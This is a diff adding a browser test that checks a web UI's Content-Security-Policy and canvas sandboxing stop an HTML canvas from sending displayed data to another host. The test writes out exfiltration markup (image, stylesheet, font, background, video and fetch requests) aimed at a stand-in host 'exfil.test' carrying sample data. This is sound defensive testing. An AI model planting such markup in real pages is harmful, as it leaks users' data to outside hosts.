@@ -6,6 +6,7 @@
 import assert from 'node:assert/strict';
 import { execFileSync, spawn, spawnSync } from 'node:child_process';
 import { mkdirSync } from 'node:fs';
+import { createServer } from 'node:http';
 import { createRequire } from 'node:module';
 import { join } from 'node:path';
 import test from 'node:test';
@@ -214,6 +215,8 @@ async function withPage(script, body) {
     const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
     const problems = [];
     page.on('pageerror', (e) => problems.push(e.message));
+    // The UI works under its Content-Security-Policy: nothing it does is refused by it.
+    page.on('console', (m) => { if (/Content.Security.Policy/i.test(m.text())) problems.push(m.text()); });
     await body(page, server);
     assert.deepEqual(problems, []);
   } finally {
@@ -234,6 +237,64 @@ test('replay: an Html canvas shows its data filled in, in a sandboxed frame, wit
     assert.equal(await page.locator('.ou-html iframe').getAttribute('sandbox'), '', 'no script, no same origin');
     await page.locator('.ou-html .ou-mount').getByText('Ask me to move any of these.').waitFor({ timeout: 30000 });
 }));
+
+// Issue 43, item 2: a canvas that would send the rows it shows to another host. A listener on
+// loopback, reached as exfil.test through the browser's resolver, must receive nothing: the
+// composed canvas is refused (external-url) and the page's CSP stops markup injected into the
+// UI's own canvas frame and page. The same markup on a page without the policy does reach it (the
+// listener and the markup work).
+test('replay: an Html canvas cannot send what it shows to another host', async () => {
+  const hits = [];
+  const listener = createServer((req, res) => { hits.push(req.url); res.end('x'); });
+  await new Promise((ok) => listener.listen(0, '127.0.0.1', ok));
+  const port = listener.address().port;
+  const server = await startServer(binary, 'canvas_exfil.json');
+  const browser = await chromium.launch({ executablePath, headless: true,
+    args: ['--no-sandbox', '--disable-gpu', `--host-resolver-rules=MAP exfil.test 127.0.0.1:${port}`] });
+  const markup = "<p id='probe'>probe</p><img src='http://exfil.test/img?d=Team%20standup'>" +
+    "<link rel='stylesheet' href='http://exfil.test/css'>" +
+    "<style>@font-face{font-family:x;src:url(http://exfil.test/font)} p{font-family:x;" +
+    "background:url(http://exfil.test/bg)}</style><video src='http://exfil.test/media'></video>";
+  const settle = () => new Promise((ok) => setTimeout(ok, 1500));
+  try {
+    // The control: no policy, and the listener hears the markup.
+    const bare = await browser.newPage();
+    await bare.setContent(markup);
+    await settle();
+    assert.ok(hits.length > 0, 'the listener is reachable as exfil.test without the policy');
+    await bare.close();
+    hits.length = 0;
+
+    const page = await browser.newPage({ viewport: { width: 1280, height: 860 } });
+    const problems = [];
+    page.on('pageerror', (e) => problems.push(e.message));
+    await ask(page, server, 'What is on this week?');
+    await page.getByText('That canvas was refused; here is your week in words.').waitFor({ timeout: 30000 });
+    assert.equal(await page.locator('.ou-html iframe').count(), 0, 'the refused canvas is not shown');
+    const policy = (await fetch(server.base + '/')).headers.get('content-security-policy');
+    assert.match(policy, /default-src 'self'/);
+    assert.match(policy, /img-src 'self' data:;/);
+    // The policy's second wall: markup in a canvas frame as the UI makes it (sandboxed srcdoc, which
+    // inherits the page's policy), and loads from the UI's page itself.
+    await page.evaluate((html) => {
+      const frame = document.createElement('iframe');
+      frame.setAttribute('sandbox', '');
+      frame.id = 'probe-frame';
+      frame.srcdoc = html;
+      document.body.append(frame);
+      new Image().src = 'http://exfil.test/page-img';
+      fetch('http://exfil.test/page-fetch').catch(() => {});
+    }, markup);
+    await page.frameLocator('#probe-frame').locator('#probe').waitFor({ timeout: 30000 });
+    await settle();
+    assert.deepEqual(hits, [], 'nothing reached the listener');
+    assert.deepEqual(problems, []);
+  } finally {
+    await browser.close();
+    await server.stop();
+    listener.close();
+  }
+});
 
 // Evidence chips: a cited read is a source with its freshness and rows, a citation that names no
 // result is marked invalid, the footer counts the claims; the same after a reload.
